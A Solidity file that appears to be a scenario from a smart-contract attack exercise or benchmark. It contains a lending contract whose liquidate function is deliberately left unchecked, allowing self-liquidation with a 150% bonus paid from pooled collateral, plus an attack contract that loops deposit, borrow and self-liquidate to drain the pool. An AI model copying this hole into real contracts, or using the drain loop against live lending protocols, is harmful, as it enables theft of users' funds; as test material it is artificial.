// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./SpotOracle.sol";

/// Anybody may liquidate anybody, himself too, and the bonus is paid out of everybody's collateral.
contract BonusLender is SpotLender {
    event Liquidated(address indexed who, address indexed by, uint256 repaid, uint256 seized);

    constructor(IERC20 coin_, IERC20 cash_, Pair pair_) SpotLender(coin_, cash_, pair_) {}

    function price() public pure override returns (uint256) {
        return 1e18;
    }

    /// Does not ask whether there is anything to liquidate, nor whether the collateral is enough.
    function liquidate(address who, uint256 amount) external {
        debt[who] -= amount;
        cash.transferFrom(msg.sender, address(this), amount);
        uint256 seized = amount * 150 / 100;
        uint256 has = collateral[who];
        collateral[who] = seized < has ? has - seized : 0;
        coin.transfer(msg.sender, seized);
        emit Liquidated(who, msg.sender, amount, seized);
    }
}

contract LiquidationBonusScene is Scene {
    Token public usd;
    Token public coin = new Token("COIN", 18);
    BonusLender public lender;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        _asset(address(coin), "COIN", 18, 1e6);
        lender = new BonusLender(IERC20(address(coin)), IERC20(address(usd)), Pair(address(0)));
        usd.mint(address(lender), 2_000_000e18);
        coin.mint(address(lender), 2_000_000e18);
        _protect(address(lender));
        _loan(IERC20(address(coin)), 2_000_000e18);
        loot0 = IERC20(address(usd));
        loot1 = IERC20(address(coin));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 300_000e18, address(lender));
        _arm(coin, users, 300_000e18, address(lender));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 kind = (dice >> 200) % 5;
        int256 room = lender.room(who);
        uint256 owed = lender.debt(who);
        if (kind < 2 && room > 100e18) return (address(lender), 0, abi.encodeCall(SpotLender.borrow, (uint256(room) / 2)));
        if (kind == 2 && owed > 0) return (address(lender), 0, abi.encodeCall(SpotLender.repay, (owed)));
        if (kind == 3 && owed == 0 && lender.collateral(who) > 0) {
            return (address(lender), 0, abi.encodeCall(SpotLender.withdraw, (lender.collateral(who))));
        }
        return (address(lender), 0, abi.encodeCall(SpotLender.deposit, (_amount(dice, 100e18, 5_000e18))));
    }
}

contract LiquidationBonusAttack is Attack {
    BonusLender private immutable lender;

    constructor(LiquidationBonusScene scene) Attack(scene) {
        lender = scene.lender();
    }

    function _act(uint256, uint256, uint256 count) internal override {
        IERC20 cash = loot0;
        loanToken.approve(address(lender), type(uint256).max);
        cash.approve(address(lender), type(uint256).max);
        uint256 put = loanToken.balanceOf(address(this));
        for (uint256 i; i < 6 / count; i++) {
            lender.deposit(put / 2);
            uint256 room = uint256(lender.room(address(this)));
            uint256 there = cash.balanceOf(address(lender));
            uint256 amount = room < there ? room : there;
            lender.borrow(amount);
            uint256 coins = loanToken.balanceOf(address(lender)) * 100 / 150;
            lender.liquidate(address(this), amount < coins ? amount : coins);
        }
    }
}
